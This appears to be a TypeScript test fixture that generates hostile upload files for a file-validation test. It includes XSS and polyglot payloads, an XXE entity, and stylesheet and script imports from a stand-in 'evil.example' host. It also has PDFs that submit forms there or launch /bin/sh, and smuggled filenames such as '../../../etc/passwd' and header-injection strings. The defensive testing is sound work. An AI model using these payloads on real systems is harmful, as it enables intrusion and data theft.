import { png } from './staff/files.ts';

const evil = 'https://evil.example';
const svg = (inside: string, more = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"${more}>${inside}</svg>`;
const bytes = (...parts: (string | number[] | Buffer)[]) =>
  Buffer.concat(
    parts.map((one) => (typeof one === 'string' ? Buffer.from(one, 'latin1') : Buffer.from(one))),
  );

/** Returns a one-page PDF that runs an action when it is opened. */
function pdfThat(action: string, more = ''): Buffer {
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${action} ${more}>>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA << /O ${action} >> >>`,
  ];
  let written = '%PDF-1.7\n';
  const places = objects.map((object, at) => {
    const place = written.length;
    written += `${at + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(place).padStart(10, '0')} 00000 n \n`;
  });
  const table = `xref\n0 4\n0000000000 65535 f \n${places.join('')}`;
  const end = `trailer << /Size 4 /Root 1 0 R >>\nstartxref\n${written.length}\n%%EOF\n`;
  return Buffer.from(written + table + end);
}

/** Returns the header of a ZIP archive with one file. */
const zipOf = (name: string, content: string) =>
  bytes(
    [0x50, 0x4b, 3, 4, 20, 0, 0, 0, 0, 0],
    '\0'.repeat(16),
    [name.length, 0, 0, 0],
    name,
    content,
  );

/** Files that would run scripts, call another server, or pass for another type, by content, by name or by both. */
export const hostileFiles: readonly { name: string; content: Buffer }[] = [
  // Pages and drawings.
  ['page.html', '<!doctype html><script>alert(1)</script>'],
  ['page.png', '<!doctype html><script>alert(1)</script>'],
  ['page.txt', `${' '.repeat(3_000)}<html><body onload=alert(1)><img src="${evil}/a.png">`],
  ['drawing.svg', svg('<script>alert(1)</script>', ' onload="alert(1)"')],
  ['drawing.png', svg(`<image href="${evil}/a.png"/><foreignObject><iframe/></foreignObject>`)],
  ['drawing.txt', `\ufeff<?xml version="1.0"?>${svg('<set onbegin="alert(1)"/>')}`],
  ['entity.xml', `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "${evil}/a">]><x>&e;</x>`],
  [
    'styled.xml',
    `<?xml version="1.0"?><?xml-stylesheet href="${evil}/a.xsl" type="text/xsl"?><x/>`,
  ],
  ['page.xhtml', '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'],
  ['page.mht', `MIME-Version: 1.0\nContent-Type: text/html\n\n<script>alert(1)</script>`],
  ['formula.mml', '<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:alert(1)"/>'],
  // Scripts and styles that a page could load.
  ['script.js', 'alert(1); window.ran = true;'],
  ['script.txt', 'alert(1); window.ran = true;'],
  ['worker.js', `importScripts('${evil}/a.js'); alert(1);`],
  ['style.css', `@import "${evil}/a.css"; body { background: url(${evil}/a.png) }`],
  ['data.json', '{"__proto__":{"ran":true}}'],
  // Polyglots: files that start as one type and continue as another.
  ['polyglot.gif', bytes('GIF89a/*', '\0'.repeat(8), '*/=1;alert(1);window.ran=true;')],
  ['polyglot.png', bytes(png, '<script>alert(1)</script>')],
  ['polyglot.jpg', bytes([0xff, 0xd8, 0xff, 0xe0, 0, 16], 'JFIF\0', '<script>alert(1)</script>')],
  ['polyglot.bmp', bytes('BM=1;alert(1);window.ran=true;//', '\0'.repeat(64))],
  ['polyglot.wav', bytes('RIFF=1;alert(1);window.ran=true;WAVEfmt ', '\0'.repeat(32))],
  ['polyglot.pdf', bytes('%PDF-1.4\n', '<script>alert(1)</script>', '\n%%EOF')],
  ['late.pdf', bytes(' '.repeat(100), '<script>alert(1)</script>%PDF-1.4\n')],
  // Documents with actions.
  ['script.pdf', pdfThat('<< /S /JavaScript /JS (app.alert\\(1\\)) >>')],
  ['link.pdf', pdfThat(`<< /S /URI /URI (${evil}/opened) >>`)],
  ['send.pdf', pdfThat(`<< /S /SubmitForm /F (${evil}/sent) >>`)],
  ['launch.pdf', pdfThat('<< /S /Launch /F (/bin/sh) >>')],
  // Archives and programs.
  ['page.zip', zipOf('index.html', '<script>alert(1)</script>')],
  ['program.exe', bytes('MZ', '\0'.repeat(62), 'This program cannot be run in DOS mode.')],
  ['link.url', `[InternetShortcut]\nURL=javascript:alert(1)\nIconFile=${evil}/a.ico\n`],
  // Hostile names.
  ['<img src=x onerror=alert(1)>.txt', 'A name that is a tag'],
  ['"; filename=page.html; x="', 'A name that is a header'],
  ['../../../etc/passwd', 'A name that is a path'],
  ['photo\u202egnp.html', 'A name that is read the other way'],
  ['javascript:alert(1)', 'A name that is an address'],
  ['page.html;.txt', 'A name with two endings'],
  [`${'x'.repeat(900)}.html`, 'A name that is very long'],
].map(([name, content]) => ({ name: String(name), content: Buffer.from(content as string) }));
